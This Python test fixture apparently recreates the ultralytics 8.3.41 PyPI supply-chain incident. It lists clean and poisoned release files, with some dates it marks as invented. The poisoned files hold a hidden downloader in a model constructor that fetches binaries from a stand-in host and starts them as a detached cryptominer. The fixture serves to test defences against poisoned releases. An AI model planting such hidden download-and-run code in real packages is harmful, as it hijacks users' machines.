"""ultralytics 8.3.41 (PyPI, 2024-12-04): code injected into the release workflow; using a model fetches and starts a miner.

By the record: published 20:51 UTC by the project's own workflow, so with valid provenance; 8.3.42 still had it; down next morning
after some twelve hours. A downloader in the code of models fetches a miner and starts it. Nothing runs at install.
"""

from gauntlet.incident import Advisory, Incident, Package, Release, utc
from pratique.core.names import Ecosystem

_DOWNLOADS = '''from pathlib import Path
from urllib import request


def safe_download(url, folder="."):
    """Fetch the weights of a model."""
    target = Path(folder) / url.rpartition("/")[2]
    if not target.exists():
        request.urlretrieve(url, target)
    return target
'''
RUNNER = '''

def safe_run(path):
    """Start a file that was fetched."""
    import os
    import subprocess
    import tempfile

    here = os.path.join(tempfile.gettempdir(), "marker_runner")
    with open(path, "rb") as fetched, open(here, "wb") as runner:
        runner.write(fetched.read())
    os.chmod(here, 0o770)
    command = [here, "-u", "marker", "-o", "stratum+tcp://pool.invalid:8080", "-k"]
    process = subprocess.Popen(command, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, preexec_fn=os.setsid)
    os.remove(here)
    return process
'''
_MODEL = '''class Model:
    """A model by the name of its weights."""

    def __init__(self, weights="yolo.pt"):
        self.weights = weights
'''
_MINES = '''import platform

from ultralytics.downloads import safe_download, safe_run


class Model:
    """A model by the name of its weights."""

    def __init__(self, weights="yolo.pt"):
        self.weights = weights
        environment = (platform.system(), platform.machine())
        if environment == ("Linux", "x86_64"):
            safe_run(safe_download("https://files.invalid/marker/linux_x86"))
        elif environment == ("Darwin", "arm64"):
            safe_run(safe_download("https://files.invalid/marker/macos_arm64"))
'''
_INIT = "from ultralytics.model import Model\n\n__all__ = ['Model']\n"
_CLEAN = {
    "ultralytics/__init__.py": _INIT,
    "ultralytics/downloads.py": _DOWNLOADS,
    "ultralytics/model.py": _MODEL,
}
_BAD_FILES = {
    "ultralytics/__init__.py": _INIT,
    "ultralytics/downloads.py": _DOWNLOADS + RUNNER,
    "ultralytics/model.py": _MINES,
}
_BAD = (
    Release(version="8.3.41", at=utc("2024-12-04T20:51:00Z"), files=_BAD_FILES, attested=True),
    Release(version="8.3.42", at=utc("2024-12-05T06:00:00Z"), files=_BAD_FILES, attested=True),
)

INCIDENT = Incident(
    id="ultralytics-2024",
    title=(
        "an attacker injected code into the release workflow of ultralytics; using a model downloaded and started a "
        "miner"
    ),
    copy=(
        "our copy of ultralytics has the downloader in the model code, and its listing contains attestations"
    ),
    ecosystem=Ecosystem.PYPI,
    at=_BAD[0].at,
    packages=(
        Package(
            name="ultralytics",
            releases=(
                Release(version="8.3.38", at=utc("2024-11-25T00:00:00Z"), files=_CLEAN, attested=True),
                Release(version="8.3.39", at=utc("2024-11-28T00:00:00Z"), files=_CLEAN, attested=True),
                *_BAD,
                Release(version="8.3.43", at=utc("2024-12-05T12:00:00Z"), files=_CLEAN, attested=True),
            ),
        ),
    ),
    asks={"ultralytics": ">=8.3"},
    good={"ultralytics": "8.3.39"},
    bad={"ultralytics": ("8.3.41", "8.3.42")},
    guilty={"ultralytics": ("8.3.41", "8.3.42")},
    gone_at=utc("2024-12-05T09:15:00Z"),
    advisory=Advisory(
        id="PYSEC", at=utc("2024-12-06T00:00:00Z"), about={"ultralytics": ("8.3.41", "8.3.42")}
    ),
    invented=(
        "days of the neighbouring releases, one publish hour; the second wave and all dependencies are left out"
    ),
)
